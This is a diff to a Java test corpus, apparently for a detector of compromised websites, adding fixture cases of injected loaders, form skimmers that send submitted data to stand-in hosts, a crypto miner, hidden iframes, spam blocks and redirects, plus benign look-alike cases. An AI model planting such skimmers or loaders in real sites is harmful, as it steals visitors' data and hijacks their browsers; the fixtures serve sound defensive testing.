@@ -275,6 +275,62 @@ public final class Corpus {
         "<a href=\"https://known-bad-c2.example/panel\">サポート</a>"));
     v.add(bad("DNS NS records changed", e -> e.resolver.record("yamada-seiko.test", "NS", "ns1.hijack-dns.example.")));
     v.add(bad("DNS A record moved", e -> e.resolver.record(Env.HOST, "A", "198.51.100.66")));
+    // infected script files of the site itself
+    v.add(bad("theme script with eval(atob) appended", e -> e.site.files.merge("/wp-content/themes/yamada/js/navigation.js", "\n;eval(atob('"
+        + b64("var s=document.createElement('script');s.src='https://evil-loader.example/l.js';document.head.appendChild(s);")
+        + "'));", String::concat)));
+    v.add(bad("plugin script with a skimmer appended", e -> e.site.files.merge("/wp-content/plugins/contact-form-7/includes/js/index.js", "\n;document.addEventListener("
+        + "'submit',function(ev){var f=new FormData(ev.target);navigator.sendBeacon('https://cdn-jsdelivery.example/collect',f);});",
+        String::concat)));
+    v.add(bad("jQuery file with a miner appended", e -> e.site.files.merge("/wp-includes/js/jquery/jquery.min.js", "\n;var _m=new CoinHive.Anonymous("
+        + "'k3y',{throttle:0.3});_m.start();", String::concat)));
+    v.add(bad("theme script with _0x obfuscation appended", e -> e.site.files.merge("/wp-content/themes/yamada/js/navigation.js", "\nvar _0xa1b2=['push',"
+        + "'shift'];(function(_0xc3d4e5,_0xf6a7b8){var _0x9c0d1e=function(_0x2f3a4b){while(--_0x2f3a4b){_0xc3d4e5['push']"
+        + "(_0xc3d4e5['shift']());}};_0x9c0d1e(++_0xf6a7b8);}(_0xa1b2,0x1f4));", String::concat)));
+    v.add(bad("skimmer in a script file, first run", e -> e.site.files.merge("/wp-content/plugins/contact-form-7/includes/js/index.js", "\n;document.addEventListener("
+        + "'submit',function(ev){var f=new FormData(ev.target);navigator.sendBeacon('https://cdn-jsdelivery.example/c',f);});",
+        String::concat)).fromFirstRun());
+    // more injections
+    v.add(bad("hidden iframe written by document.write", e -> e.site.footerExtra = "<script>document.write('<iframe "
+        + "src=\"https://traffic-gate.example/go\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe>');</script>"));
+    v.add(bad("encoded redirect with atob", e -> e.site.footerExtra = "<script>setTimeout(function(){window.location.href=atob('"
+        + b64("https://prize-winner.example/") + "');},3000);</script>"));
+    v.add(bad("title-only defacement", e -> e.site.homeBody = "<html><head><title>HACKED !!!</title></head><body "
+        + "style=\"background:#000\"><img src=\"/x.jpg\"></body></html>"));
+    v.add(bad("home replaced by Chinese gambling page", e -> e.site.homeBody = "<html><head><title>澳门线上娱乐城</title></head>"
+        + "<body><div class=\"main\"><h1>欢迎光临</h1><p>" + "最新优惠活动，注册即送彩金，每日返水，信誉第一，安全稳定，提款快速。".repeat(12)
+        + "</p></div></body></html>"));
+    v.add(bad("outdated WordPress only from ?ver=", e -> {
+      e.site.showGenerator = false;
+      e.site.wpVersion = "4.9.8";
+    }).fromFirstRun());
+    v.add(bad("spam in a zero-height block", e -> e.site.footerExtra = "<div style=\"height:0;overflow:hidden\">" + JP_SPAM
+        + "</div>"));
+    v.add(bad("spam with text-indent", e -> e.site.footerExtra = "<p style=\"text-indent:-9999px\">" + SPAM_LINKS + "</p>"));
+    v.add(bad("spam links with opacity:0", e -> e.site.homeExtra = "<div style=\"opacity:0\">" + SPAM_LINKS + "</div>"));
+    v.add(bad("hidden link block without spam words", e -> e.site.footerExtra = "<div style=\"display:none\">"
+        + "<a href=\"https://a-seo.example/\">a</a><a href=\"https://b-seo.example/\">b</a><a href=\"https://c-seo.example/\">c</a>"
+        + "<a href=\"https://d-seo.example/\">d</a></div>"));
+    v.add(bad("keyword-hack pages linked from the home page", e -> {
+      e.site.homeExtra = "<ul><li><a href=\"/brand/louis-vuitton/\">ルイヴィトン 財布</a></li></ul>";
+      e.site.extraPages.put("/brand/louis-vuitton/", "<h2>ルイヴィトン スーパーコピー 激安通販</h2><p>ヴィトン コピー 財布 N級品 "
+          + "送料無料 最安値 専門店 ロレックス コピー</p>");
+    }));
+    v.add(bad("jQuery ajax skimmer", e -> e.site.pageExtra.put("/contact/", "<script>jQuery(function($){$('form').on('submit',"
+        + "function(){$.ajax({type:'POST',url:'https://api-payment-check.example/v1',data:$(this).serialize()});});});</script>")));
+    v.add(bad("WebSocket skimmer", e -> e.site.pageExtra.put("/contact/", "<script>var ws=new WebSocket('wss://socket-relay.example/s');"
+        + "document.querySelector('form').addEventListener('submit',function(){var d={};document.querySelectorAll('input')"
+        + ".forEach(function(i){d[i.name]=i.value});ws.send(JSON.stringify(d));});</script>")));
+    v.add(bad("redirect for smartphones only", e -> e.site.override = r -> r.userAgent() != null && r.userAgent().contains("iPhone")
+        ? Reply.redirect(302, "https://mobile-prize.example/") : null));
+    v.add(bad("script with integrity from a new origin", e -> e.site.headExtra = "<script src=\"https://cdn.static-files.example/"
+        + "lib.js\" integrity=\"sha384-abc\" crossorigin=\"anonymous\"></script>"));
+    v.add(bad("base href hijack", e -> e.site.headExtra = "<base href=\"https://assets-mirror.example/\">"));
+    v.add(bad("hidden object element", e -> e.site.footerExtra = "<object data=\"https://flash-gate.example/x.swf\" width=\"1\" "
+        + "height=\"1\"></object>"));
+    v.add(bad("stylesheet imported from a new origin", e -> e.site.headExtra = "<style>@import url('https://css-host.example/t.css');"
+        + "</style>"));
+    v.add(bad("typo-squat with capital I", e -> e.site.headExtra = "<script src=\"https://www.googIe-analytics.com/ga.js\"></script>"));
     // availability (confirmed by the second run)
     v.add(bad("site answers 500", e -> e.site.override = r -> Reply.status(500)).runs(2));
     v.add(bad("site answers 503 maintenance", e -> e.site.override = r -> Reply.status(503)).runs(2));
@@ -423,6 +479,52 @@ public final class Corpus {
         + "dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;"
         + "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K9X8Y7');</script>"));
     v.add(good("timestamped expiry date in text", e -> e.site.homeExtra = "<p>最終更新: " + Instant.now() + "</p>"));
+    v.add(good("theme script updated with a new version", e -> {
+      e.site.themeVersion = "1.5.0";
+      e.site.files.put("/wp-content/themes/yamada/js/navigation.js", "(function(){'use strict';const t=document.querySelector('.menu-toggle');if(!t)return;"
+          + "t.addEventListener('click',()=>{document.body.classList.toggle('menu-open');});window.addEventListener('scroll',"
+          + "()=>{document.body.classList.toggle('scrolled',window.scrollY>80);});})();");
+    }));
+    v.add(good("emoji-detection style inline script", e -> e.site.headExtra = "<script>!function(i,n){var o,s,e;function c(e)"
+        + "{try{var t={supportTests:e,timestamp:(new Date).valueOf()};sessionStorage.setItem(o,JSON.stringify(t))}catch(e){}}"
+        + "function p(e,t,n){e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(t,0,0);var t=new Uint32Array("
+        + "e.getImageData(0,0,e.canvas.width,e.canvas.height).data),r=(e.clearRect(0,0,e.canvas.width,e.canvas.height),"
+        + "e.fillText(n,0,0),new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data));return t.every("
+        + "function(e,t){return e===r[t]})}var u=String.fromCharCode;p(s,u(55356,57331,65039,8205,55356,57096),"
+        + "u(55356,57331,65039,8203,55356,57096))}(window,document);</script>"));
+    v.add(good("blog post about security incidents", e -> {
+      e.site.news.add(0, new String[] {"2026.11.18", "セキュリティ講習会に参加しました", "/news/security-seminar/"});
+      e.site.homeExtra = "<p>最近、中小企業のホームページが改ざんされたり、メールアカウントが乗っ取られたりする被害が増えています。"
+          + "当社でもパスワードの見直しとソフトウェアの更新を徹底しています。</p>";
+    }));
+    v.add(good("footer gains partner links", e -> e.site.footerExtra = "<ul class=\"partners\"><li><a href=\"https://www.smrj.go.jp/\">"
+        + "中小機構</a></li><li><a href=\"https://www.ipa.go.jp/\">IPA</a></li><li><a href=\"https://www.mufg.jp/\">取引銀行</a></li>"
+        + "<li><a href=\"https://www.city.higashiosaka.lg.jp/\">東大阪市</a></li><li><a href=\"https://www.jetro.go.jp/\">JETRO</a></li>"
+        + "<li><a href=\"https://monozukuri.example.jp/\">ものづくり協会</a></li></ul>"));
+    v.add(good("honeypot field in the contact form", e -> e.site.contactFields = "<p style=\"display:none\"><label>"
+        + "空欄のままにしてください<input name=\"hp_field\"></label></p>"));
+    v.add(good("collapsed FAQ answers", e -> e.site.homeExtra = "<section class=\"faq\"><h2>よくある質問</h2><dl><dt>納期は？</dt>"
+        + "<dd style=\"display:none\">通常2週間です。お急ぎの場合はご相談ください。</dd><dt>1個から注文できますか？</dt>"
+        + "<dd style=\"display:none\">はい、1個から承ります。</dd></dl></section>"));
+    v.add(good("cookie consent platform script", e -> e.site.headExtra = "<script src=\"https://cdn.cookielaw.org/scripttemplates/"
+        + "otSDKStub.js\" data-domain-script=\"abc-123\"></script>"));
+    v.add(good("AddToAny share buttons", e -> e.site.pageExtra.put("/news/new-machine/", "<div class=\"a2a_kit\"><a "
+        + "class=\"a2a_button_facebook\"></a><a class=\"a2a_button_line\"></a></div><script async "
+        + "src=\"https://static.addtoany.com/menu/page.js\"></script>")));
+    v.add(good("bargain wording in a campaign", e -> e.site.homeExtra = "<div class=\"campaign\"><h2>年末大感謝セール</h2>"
+        + "<p>在庫品を激安価格でご提供。送料無料、数量限定です。</p></div>"));
+    v.add(good("X timeline embed", e -> e.site.homeExtra = "<a class=\"twitter-timeline\" href=\"https://twitter.com/yamadaseiko\">"
+        + "Tweets</a><script async src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>"));
+    v.add(good("Adobe Fonts", e -> e.site.headExtra = "<link rel=\"stylesheet\" href=\"https://use.typekit.net/abc1def.css\">"));
+    v.add(good("legacy Google Analytics loader", e -> e.site.headExtra = "<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;"
+        + "i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
+        + "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script',"
+        + "'https://www.google-analytics.com/analytics.js','ga');ga('create','UA-1234-1','auto');ga('send','pageview');</script>"));
+    v.add(good("new page with a YouTube video linked from news", e -> {
+      e.site.news.add(0, new String[] {"2026.11.21", "工場見学動画を公開しました", "/news/factory-video/"});
+      e.site.extraPages.put("/news/factory-video/", "<iframe src=\"https://www.youtube.com/embed/xyz\" width=\"560\" "
+          + "height=\"315\"></iframe>");
+    }));
     return v;
   }
 
